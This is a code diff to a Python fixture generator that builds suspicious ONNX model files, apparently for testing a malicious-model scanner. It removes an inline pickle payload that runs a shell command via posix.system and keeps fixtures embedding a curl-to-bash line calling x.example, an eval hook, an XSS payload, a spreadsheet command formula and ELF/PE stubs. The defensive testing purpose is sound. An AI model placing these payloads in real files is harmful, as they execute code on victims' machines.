@@ -10,7 +10,7 @@ import struct
 import zlib
 from pathlib import Path
 
-from fixtures.make.onnx import linear
+from fixtures.make.onnx import IO, linear
 from fixtures.make.onnx_writer import (
     FLOAT,
     INT64,
@@ -32,10 +32,8 @@ from fixtures.make.onnx_writer import (
     value,
     varint,
 )
+from fixtures.make.payloads import ELF, PAYLOAD
 
-IO = ([value("x", ["n", 2])], [value("y", ["n", 2])])
-PICKLE = b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."
-ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0)
 PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)
 ZIP = (
     b"PK\3\4\x14\0\0\0\0\0\0\0\0\0" + struct.pack("<III", zlib.crc32(b"hi"), 2, 2) + b"\1\0\0\0ahi"
@@ -181,7 +179,7 @@ FILES = {
     "external/symlink": outside("link.bin"),
     "external/symlink-folder": outside("folder/w.bin"),
     "external/hardlink": outside("hard.bin"),
-    "external/pickle": lambda: {"m.onnx": linear(weight=external("w", "w.bin")), "w.bin": PICKLE},
+    "external/pickle": lambda: {"m.onnx": linear(weight=external("w", "w.bin")), "w.bin": PAYLOAD},
     "tensor/raw-and-list": single(linear(weight=floats("w", [2, 2], [1, 2, 3, 4]) + message(4, struct.pack("<4f", 5, 6, 7, 8)))),
     "tensor/two-lists": single(
         linear(weight=tensor("w", [2, 2]) + message(4, struct.pack("<4f", 1, 2, 3, 4)) + message(10, struct.pack("<4d", 5, 6, 7, 8)))
@@ -202,20 +200,20 @@ FILES = {
     "tensor/duplicate": single(linear(tensors=[floats("w", [2, 2], [0.0, 0.0, 9.0, 9.0])])),
     "payload/unused-elf": single(raw_tensor(ELF + bytes(100), used=False)),
     "payload/unused-zip": single(raw_tensor(ZIP, used=False)),
-    "payload/used-pickle": single(raw_tensor(PICKLE + bytes(50))),
+    "payload/used-pickle": single(raw_tensor(PAYLOAD + bytes(50))),
     "payload/pe-as-float": single(linear(weight=tensor("w", [len(PE) // 8, 2], PE, FLOAT))),
     "payload/offset-elf": single(raw_tensor(bytes(40) + ELF, used=False)),
     "payload/script-as-int8": single(raw_tensor(SCRIPT.encode() * 4, 3, used=False)),
     "payload/noise": single(raw_tensor(zlib.compress(bytes(i * i % 251 for i in range(9000))) * 3, used=False)),
     "payload/string-tensor": single(
-        linear(tensors=[tensor("t", [1], kind=STRING, more=text(6, PICKLE))])
+        linear(tensors=[tensor("t", [1], kind=STRING, more=text(6, PAYLOAD))])
     ),
     "payload/attribute": single(custom("Relu", "", attribute("note", 3, text(4, ELF + bytes(40))))),
     "text/metadata-python": single(linear(entry(14, "hook", "eval(compile(open('x').read(), 'x', 'exec'))"))),
     "text/metadata-shell": single(linear(entry(14, "setup", "curl -s http://x.example/a | bash"))),
     "text/doc-reverse-shell": single(linear(text(6, SCRIPT))),
     "text/html": single(linear(text(6, "<img src=x onerror=alert(1)>"))),
-    "text/base64-pickle": single(linear(entry(14, "state", base64.b64encode(PICKLE + bytes(30))))),
+    "text/base64-pickle": single(linear(entry(14, "state", base64.b64encode(PAYLOAD + bytes(30))))),
     "text/base64-script": single(linear(entry(14, "cfg", base64.b64encode((SCRIPT * 5).encode())))),
     "text/ansi": single(linear(nodes=[node("Neg", ["y"], ["\x1b[31mz"])])),
     "text/formula": single(linear(nodes=[node("Neg", ["y"], ["z"], name="=cmd|' /C calc'!A0")])),
